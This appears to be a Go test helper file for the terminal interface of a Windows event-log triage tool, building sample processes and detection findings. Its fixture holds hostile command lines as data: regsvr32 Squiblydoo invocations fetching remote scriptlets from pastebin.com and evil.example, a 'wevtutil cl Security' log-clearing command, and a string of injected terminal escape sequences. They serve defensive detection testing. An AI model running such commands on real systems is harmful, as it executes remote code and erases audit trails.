package tui

import (
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/evtriage/evtriage/parser"
	"github.com/evtriage/evtriage/rules"
	"github.com/evtriage/evtriage/triage"
)

// hostile is a command line carrying terminal escape sequences: a window
// title change (OSC 0 … BEL) and a clear-screen (CSI 2J).
const hostile = "regsvr32.exe /s /i:http://evil.example/a.sct \x1b]0;pwned\x07\x1b[2J scrobj.dll"

var t0 = time.Date(2019, 5, 12, 18, 35, 5, 0, time.UTC)

// fixtureBuilder assembles a triage.Result by hand: real structures with
// their links set the way the triage package sets them.
type fixtureBuilder struct {
	r   *triage.Result
	rec uint64
}

func (b *fixtureBuilder) event(channel string, id uint16, host string, at time.Time, kv ...string) *triage.EventRef {
	b.rec++
	ev := &parser.Event{Offset: int64(0x1000 + 0x200*b.rec), RecordNum: b.rec, RecordID: 16790 + b.rec, Time: at,
		Channel: channel, Computer: host, EventID: id}
	switch channel {
	case "Security":
		ev.Provider = "Microsoft-Windows-Security-Auditing"
	default:
		ev.Provider = "Microsoft-Windows-Sysmon"
	}
	for i := 0; i+1 < len(kv); i += 2 {
		ev.Fields = append(ev.Fields, parser.Field{Name: kv[i], Value: kv[i+1]})
	}
	return &triage.EventRef{File: "evidence/" + host + ".evtx", Event: ev}
}

const sysmonCh = "Microsoft-Windows-Sysmon/Operational"

func (b *fixtureBuilder) proc(parent *triage.Process, host string, pid uint32, image, cmd string, at time.Time, src triage.SourceKind) *triage.Process {
	p := &triage.Process{ID: len(b.r.Processes), Host: host, PID: pid, Image: image, CommandLine: cmd, User: host + `\IEUser`,
		Created: at, Sources: src, Parent: parent}
	if src == triage.FromSysmon {
		guid := fmt.Sprintf("365ABB72-6759-5CD8-0000-0010%08X", pid)
		p.GUID = triage.ParseGUID(guid)
		kv := []string{"ProcessGuid", guid, "ProcessId", fmt.Sprint(pid), "Image", image, "CommandLine", cmd, "User", p.User}
		if parent != nil {
			kv = append(kv, "ParentProcessGuid", parent.GUID.String(), "ParentProcessId", fmt.Sprint(parent.PID), "ParentImage", parent.Image,
				"ParentCommandLine", parent.CommandLine)
		}
		p.Keep(triage.KindCreate, b.event(sysmonCh, 1, host, at, kv...))
	} else {
		kv := []string{"NewProcessId", fmt.Sprintf("0x%x", pid), "NewProcessName", image, "CommandLine", cmd}
		if parent != nil {
			kv = append(kv, "ProcessId", fmt.Sprintf("0x%x", parent.PID), "ParentProcessName", parent.Image)
		}
		p.Keep(triage.KindCreate, b.event("Security", 4688, host, at, kv...))
	}
	if strings.HasSuffix(strings.ToLower(image), `\regsvr32.exe`) {
		p.Regsvr32 = true
	}
	b.r.Processes = append(b.r.Processes, p)
	if parent == nil {
		b.r.Roots = append(b.r.Roots, p)
	} else {
		parent.Children = append(parent.Children, p)
		p.Link = triage.LinkGUID
	}
	return p
}

func (b *fixtureBuilder) finding(rule *rules.Rule, p *triage.Process, ref *triage.EventRef, suppressed ...string) *triage.Finding {
	f := &triage.Finding{ID: len(b.r.Findings), Rule: rule, Event: ref, Process: p, Suppressed: suppressed,
		Match: []rules.MatchDetail{{Selection: "selection_image", Field: "Image", Modifier: "endswith", Value: `\regsvr32.exe`}}}
	b.r.Findings = append(b.r.Findings, f)
	if p != nil {
		p.Findings = append(p.Findings, f)
	}
	return f
}

// builtinRule returns a rule of the built-in pack, compiled, so that
// switching its filters off re-evaluates it for real.
func builtinRule(id string) *rules.Rule {
	for _, r := range rules.Load(rules.LoadOptions{}).Rules() {
		if r.ID == id {
			return r
		}
	}
	panic("no built-in rule " + id)
}

// Rules of the fixture. Hand-built rules have no compiled detection, so
// only filters that need no re-evaluation are exercised on them.
var (
	ruleSeed    = &rules.Rule{ID: "ce2c44b5-a6ac-412a-afba-9e89326fa972", Title: "Potentially Suspicious Regsvr32 HTTP/FTP Pattern", Level: rules.LevelMedium, Tags: []string{"attack.t1218.010"}, Path: "builtin:01_seed.yml", Line: 1, Status: "experimental"}
	ruleRenamed = &rules.Rule{ID: "a1b2c3d4-0000-4000-8000-000000000005", Title: "Renamed regsvr32", Level: rules.LevelHigh, Path: "builtin:05_regsvr32_renamed.yml", Line: 1}
	ruleLoad    = &rules.Rule{ID: "a1b2c3d4-0000-4000-8000-000000000004", Title: "regsvr32 loads an unsigned image", Level: rules.LevelCritical, Path: "builtin:04_unsigned.yml", Line: 1}
	ruleInfo    = &rules.Rule{ID: "a1b2c3d4-0000-4000-8000-000000000009", Title: "Command line mentions scrobj", Level: rules.LevelInformational, Path: "rules/extra.yml", Line: 3}
)

// fixture is a small two-host hunt: a Squiblydoo regsvr32 with a child,
// an unsigned load, network and DNS; a renamed regsvr32; a 4688 host
// where wevtutil under regsvr32 is hidden by the CAR exclusion; one
// command line full of escape sequences; and a damaged input.
func fixture() *triage.Result {
	ruleCAR := builtinRule(carRuleID)
	b := &fixtureBuilder{r: &triage.Result{
		Loaded:   []*rules.Rule{ruleSeed, ruleCAR, ruleRenamed, ruleLoad, ruleInfo},
		Hosts:    []string{"IEWIN7", "WS02"},
		Rejected: []rules.Rejection{{Path: "rules/broken.yml", Line: 4, Reason: "unknown modifier \"frob\""}},
	}}
	b.r.Sources = []triage.Source{
		{Path: "evidence/IEWIN7.evtx", SHA256: strings.Repeat("ab", 32), Records: 11},
		{Path: "evidence/WS02.evtx", SHA256: strings.Repeat("cd", 32), Records: 4, Recovered: 1,
			Problems: []triage.Problem{{Offset: 0x31000, Err: &parser.FormatError{Offset: 0x31000, Msg: "chunk 3: bad record size 0x0 \x1b[31m"}}}},
	}
	sec := func(n int) time.Time { return t0.Add(time.Duration(n) * time.Second) }

	explorer := b.proc(nil, "IEWIN7", 3528, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, sec(-600), triage.FromSysmon)
	cmd := b.proc(explorer, "IEWIN7", 2992, `C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe" `, sec(-30), triage.FromSysmon)
	reg := b.proc(cmd, "IEWIN7", 1420, `C:\Windows\System32\regsvr32.exe`, `regsvr32.exe  /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll`, sec(0), triage.FromSysmon)
	child := b.proc(reg, "IEWIN7", 2340, `C:\Windows\System32\cmd.exe`, `cmd.exe /c calc.exe`, sec(2), triage.FromSysmon)
	b.proc(child, "IEWIN7", 2344, `C:\Windows\System32\calc.exe`, `calc.exe`, sec(3), triage.FromSysmon)
	evil := b.proc(explorer, "IEWIN7", 4000, `C:\Windows\System32\regsvr32.exe`, hostile, sec(40), triage.FromSysmon)
	svc := b.proc(nil, "IEWIN7", 612, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`, sec(-900), triage.FromSysmon)
	jab := b.proc(svc, "IEWIN7", 5120, `C:\ProgramData\jabber.exe`, `jabber.exe /s /n /u /i:http://10.0.0.5/x.sct scrobj.dll`, sec(60), triage.FromSysmon)
	jab.Renamed = true

	reg.Keep(triage.KindImageLoad, b.event(sysmonCh, 7, "IEWIN7", sec(1), "ImageLoaded", `C:\Windows\System32\scrobj.dll`, "Signed", "true", "Signature", "Microsoft Windows"))
	reg.Keep(triage.KindImageLoad, b.event(sysmonCh, 7, "IEWIN7", sec(1), "ImageLoaded", `C:\Users\IEUser\AppData\Local\Temp\x.dll`, "Signed", "false", "Signature", ""))
	reg.Keep(triage.KindNetwork, b.event(sysmonCh, 3, "IEWIN7", sec(1), "Protocol", "tcp", "SourceIp", "10.0.2.15", "SourcePort", "49163",
		"DestinationIp", "104.20.208.21", "DestinationPort", "443", "DestinationHostname", "pastebin.com"))
	reg.Keep(triage.KindDNS, b.event(sysmonCh, 22, "IEWIN7", sec(1), "QueryName", "pastebin.com", "QueryResults", "::ffff:104.20.208.21;"))
	reg.Seen.Add(triage.KindImageLoad, 2)
	reg.Seen.Add(triage.KindNetwork, 1)
	reg.Seen.Add(triage.KindDNS, 1)

	wsRoot := b.proc(nil, "WS02", 700, `C:\Windows\System32\svchost.exe`, `svchost.exe -k netsvcs`, sec(-300), triage.FromSecurity)
	wsReg := b.proc(wsRoot, "WS02", 812, `C:\Windows\SysWOW64\regsvr32.exe`, `regsvr32 /s C:\Users\Public\a.dll`, sec(100), triage.FromSecurity)
	wev := b.proc(wsReg, "WS02", 900, `C:\Windows\System32\wevtutil.exe`, `wevtutil cl Security`, sec(101), triage.FromSecurity)

	b.finding(ruleSeed, reg, reg.Create())
	b.finding(ruleCAR, child, child.Create())
	b.finding(ruleLoad, reg, reg.Events(triage.KindImageLoad)[1])
	b.finding(ruleInfo, reg, reg.Create())
	b.finding(ruleSeed, evil, evil.Create())
	b.finding(ruleRenamed, jab, jab.Create())
	b.finding(ruleSeed, wsReg, wsReg.Create())
	b.finding(ruleCAR, wev, wev.Create(), "filter_car_wevtutil")
	b.r.Events = 15
	b.r.Duplicates = 1
	return b.r
}

// press builds key messages: "j", "enter", "esc", "tab", "space"…
func press(keys ...string) []tea.Msg {
	var out []tea.Msg
	for _, k := range keys {
		switch k {
		case "enter":
			out = append(out, tea.KeyPressMsg{Code: tea.KeyEnter})
		case "esc":
			out = append(out, tea.KeyPressMsg{Code: tea.KeyEscape})
		case "tab":
			out = append(out, tea.KeyPressMsg{Code: tea.KeyTab})
		case "space":
			out = append(out, tea.KeyPressMsg{Code: tea.KeySpace, Text: " "})
		case "down":
			out = append(out, tea.KeyPressMsg{Code: tea.KeyDown})
		case "up":
			out = append(out, tea.KeyPressMsg{Code: tea.KeyUp})
		case "left":
			out = append(out, tea.KeyPressMsg{Code: tea.KeyLeft})
		case "right":
			out = append(out, tea.KeyPressMsg{Code: tea.KeyRight})
		case "backspace":
			out = append(out, tea.KeyPressMsg{Code: tea.KeyBackspace})
		default:
			for _, r := range k {
				out = append(out, tea.KeyPressMsg{Code: r, Text: string(r)})
			}
		}
	}
	return out
}

// drive feeds msgs to m and runs every command they produce, to the end,
// synchronously: the screen as it is once all background work is done.
func drive(t testing.TB, m tea.Model, msgs ...tea.Msg) (Model, bool) {
	t.Helper()
	quit := false
	for _, msg := range msgs {
		var q bool
		m, q = settle(t, m, msg)
		quit = quit || q
	}
	return m.(Model), quit
}

// burst feeds all msgs before any command's result, like fast typing.
func burst(t testing.TB, m tea.Model, msgs ...tea.Msg) (Model, bool) {
	t.Helper()
	m, q := settle(t, m, msgs...)
	return m.(Model), q
}

// settle feeds msgs and then every message their commands produce.
func settle(t testing.TB, m tea.Model, msgs ...tea.Msg) (tea.Model, bool) {
	t.Helper()
	quit := false
	queue := append([]tea.Msg(nil), msgs...)
	for steps := 0; len(queue) > 0; steps++ {
		if steps > 10000 {
			t.Fatal("drive: runaway message loop")
		}
		msg := queue[0]
		queue = queue[1:]
		if _, ok := msg.(tea.QuitMsg); ok {
			quit = true
			continue
		}
		var cmd tea.Cmd
		m, cmd = m.Update(msg)
		queue = append(queue, run(cmd)...)
	}
	return m, quit
}

// run executes a command and the batches it returns.
func run(cmd tea.Cmd) []tea.Msg {
	if cmd == nil {
		return nil
	}
	msg := cmd()
	if b, ok := msg.(tea.BatchMsg); ok {
		var out []tea.Msg
		for _, c := range b {
			out = append(out, run(c)...)
		}
		return out
	}
	if msg == nil {
		return nil
	}
	return []tea.Msg{msg}
}

// loaded returns a screen of size w×h showing r.
func loaded(t testing.TB, r *triage.Result, w, h int) Model {
	t.Helper()
	return loadedCfg(t, r, w, h, Config{})
}

// screen is the view as plain text, the way a terminal shows it.
func screen(m Model) string {
	return ansi.Strip(m.View().Content)
}

// writeEvents writes evs as an EVTX log at path with the project's writer
// and returns its bytes.
func writeEvents(t testing.TB, path string, evs []*parser.Event) []byte {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := parser.NewWriter(f)
	for _, ev := range evs {
		if err := w.Write(ev); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return data
}
